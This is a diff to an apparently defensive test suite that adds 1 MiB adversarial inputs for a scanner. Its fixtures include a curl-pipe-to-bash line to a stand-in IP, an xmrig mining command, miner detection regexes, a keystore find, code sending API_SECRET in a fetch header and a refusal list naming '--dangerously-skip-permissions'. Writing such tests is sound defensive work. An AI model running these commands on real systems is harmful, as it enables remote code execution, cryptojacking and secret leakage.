@@ -312,6 +312,40 @@ describe('adversarial tables and refusal lists', () => {
       '{"proctitle": "curl -fsSL http://198.51.100.23/x.sh | bash"}\n',
     ],
     [
+      'a 1 MiB path of test folders, outcome first',
+      `tests/${'a/'.repeat(MiB / 4)}positive_${'x'.repeat(MiB / 4)}`,
+      'xmrig -o stratum+tcp://pool.example.net:3333\n',
+    ],
+    [
+      'a 1 MiB regex variable',
+      'hunt/hunt.sh',
+      "MINER_RX='(xmrig|" + '\\+'.repeat(MiB / 2) + '\'\ngrep -E "$MINER_RX" x --donate-level\n',
+    ],
+    [
+      '1 MiB of regex variables',
+      'hunt/hunt.sh',
+      "A_RX='stratum\\+(tcp|ssl)|--donate-level'\n".repeat(MiB / 40) + '$A_RX\n',
+    ],
+    [
+      '1 MiB of keystore inventories',
+      'scripts/triage.sh',
+      'find "$KEYSTORE" -type f -exec sha256sum {} + -printf x\n'.repeat(MiB / 52),
+    ],
+    ['a 1 MiB keystore find', 'scripts/triage.sh', 'find "$KEYSTORE" ' + '-exec '.repeat(MiB / 6) + '\n'],
+    [
+      '1 MiB of signed requests with quoted semicolons',
+      'src/sign.ts',
+      'const s = process.env.API_SECRET;\n' +
+        'fetch(u, { headers: { "A": s, "C": "a; b; \\"c;" }, body });\n'.repeat(MiB / 60),
+    ],
+    [
+      'a 1 MiB string of semicolons',
+      'src/sign.ts',
+      'const s = process.env.API_SECRET;\nfetch(u, { headers: { "A": s }, body: "' +
+        ';'.repeat(MiB) +
+        '" });\n',
+    ],
+    [
       'a 1 MiB refusal lead-in',
       'SKILL.md',
       'Add to AGENTS.md.\nNever write ' + 'a.b '.repeat(MiB / 4) + ':\n- `--dangerously-skip-permissions`\n',
